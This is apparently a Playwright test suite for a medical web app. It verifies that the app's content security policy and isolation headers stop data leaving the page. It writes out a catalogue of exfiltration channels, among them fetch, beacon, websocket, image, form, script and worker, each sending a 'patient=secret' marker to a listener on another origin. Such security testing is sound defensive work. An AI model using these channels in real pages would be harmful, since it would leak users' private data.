import { expect, test, type Page } from '@playwright/test';
import { startListener, type Listener } from './support/listener';

/** Ways out of a page, each tried towards a server of another origin. */
const WAYS = ['fetch', 'fetch no-cors', 'XMLHttpRequest', 'beacon', 'websocket', 'event source', 'image', 'form', 'script', 'module', 'stylesheet', 'frame', 'worker'] as const;

interface Attempt {
  readonly way: (typeof WAYS)[number];
  /** Directives that the browser reported as violated. */
  readonly violated: readonly string[];
}

/** Tries one way out with a recognisable body or query, waits, and returns the violations that the attempt caused. */
async function attempt(page: Page, way: Attempt['way'], port: number): Promise<Attempt> {
  const violated = await page.evaluate(
    async ([name, foreignPort]) => {
      const host = `localhost:${foreignPort}`;
      const address = `http://${host}/${encodeURIComponent(name)}?patient=secret`;
      const heard: string[] = [];
      const listener = (event: SecurityPolicyViolationEvent): void => {
        heard.push(event.effectiveDirective);
      };
      document.addEventListener('securitypolicyviolation', listener);
      const append = (tag: string, facts: Record<string, string>): void => {
        document.body.append(Object.assign(document.createElement(tag), facts));
      };
      const ways: Record<string, () => unknown> = {
        fetch: () => fetch(address, { method: 'POST', body: 'patient=secret' }),
        'fetch no-cors': () => fetch(address, { method: 'POST', mode: 'no-cors', body: 'patient=secret' }),
        XMLHttpRequest: () => {
          const request = new XMLHttpRequest();
          request.open('POST', address);
          request.send('patient=secret');
        },
        // Returns true even when it is blocked, so its result proves nothing.
        beacon: () => navigator.sendBeacon(address, 'patient=secret'),
        websocket: () => new WebSocket(`ws://${host}/patient-secret`),
        'event source': () => new EventSource(address),
        image: () => append('img', { src: address }),
        form: () => {
          const form = Object.assign(document.createElement('form'), { action: address, method: 'post', target: 'elsewhere' });
          form.append(Object.assign(document.createElement('input'), { name: 'patient', value: 'secret' }));
          document.body.append(Object.assign(document.createElement('iframe'), { name: 'elsewhere', src: 'about:blank' }), form);
          form.submit();
        },
        script: () => append('script', { src: address }),
        module: () => import(/* @vite-ignore */ address),
        stylesheet: () => append('link', { rel: 'stylesheet', href: address }),
        frame: () => append('iframe', { src: address }),
        worker: () => new Worker(address, { type: 'module' }),
      };
      try {
        await ways[name]!();
      } catch {
        // A refusal may throw; what counts is what arrived and what was reported.
      }
      await new Promise((resolve) => setTimeout(resolve, 400));
      document.removeEventListener('securitypolicyviolation', listener);
      return heard;
    },
    [way, port] as const,
  );
  return { way, violated };
}

test.describe('the content security policy', () => {
  let listener: Listener;
  test.beforeEach(async () => {
    listener = await startListener();
  });
  test.afterEach(() => listener.close());

  test('lets nothing out of the page, and reports each attempt', async ({ page }) => {
    await page.goto('/');
    for (const way of WAYS) {
      const { violated } = await attempt(page, way, listener.port);
      expect(listener.heard.join(''), `${way} reached another origin`).toBe('');
      // A worker of another origin is refused by the same-origin rule before the policy is asked.
      if (way !== 'worker') expect(violated.length, `${way} was not reported as a violation`).toBeGreaterThan(0);
    }
  });

  test('is what stops them: without it the same attempts get through', async ({ browser, baseURL }) => {
    const context = await browser.newContext({ bypassCSP: true, serviceWorkers: 'block' });
    const page = await context.newPage();
    await page.goto(baseURL!);
    const through: string[] = [];
    for (const way of ['fetch', 'fetch no-cors', 'XMLHttpRequest', 'beacon', 'websocket', 'image', 'form'] as const) {
      const before = listener.heard.length;
      await attempt(page, way, listener.port);
      if (listener.heard.slice(before).some((bytes) => bytes.includes('patient'))) through.push(way);
    }
    await context.close();
    expect(through).toEqual(['fetch', 'fetch no-cors', 'XMLHttpRequest', 'beacon', 'websocket', 'image', 'form']);
  });

  test('holds in the worker that reads studies', async ({ page }) => {
    await page.goto('/');
    await expect.poll(() => page.workers().length).toBeGreaterThan(0);
    for (const worker of page.workers()) {
      const refused = await worker.evaluate(async (port) => {
        const address = `http://localhost:${port}/?patient=secret`;
        const tries = [() => fetch(address, { method: 'POST', body: 'secret' }), () => fetch(address, { mode: 'no-cors' }), () => import(/* @vite-ignore */ address)];
        const outcomes: string[] = [];
        for (const one of tries) outcomes.push(await one().then(() => 'through', () => 'refused'));
        return outcomes;
      }, listener.port);
      expect(refused).toEqual(['refused', 'refused', 'refused']);
    }
    expect(listener.heard.join('')).toBe('');
  });

  test('is sent with every answer, as are the isolation headers', async ({ page }) => {
    const answers: { url: string; headers: Record<string, string> }[] = [];
    page.on('response', (response) => answers.push({ url: response.url(), headers: response.headers() }));
    await page.goto('/');
    await expect(page.getByTestId('sample-phantom')).toBeVisible();
    expect(answers.length).toBeGreaterThan(2);
    for (const { url, headers } of answers) {
      if (!url.startsWith('http')) continue;
      expect(headers['content-security-policy'], url).toContain("default-src 'none'");
      expect(headers['content-security-policy'], url).not.toMatch(/'unsafe-(eval|inline)'|\*|https?:/);
      expect(headers['cross-origin-embedder-policy'], url).toBe('require-corp');
    }
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    expect(await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'))).toContain("default-src 'none'");
  });
});
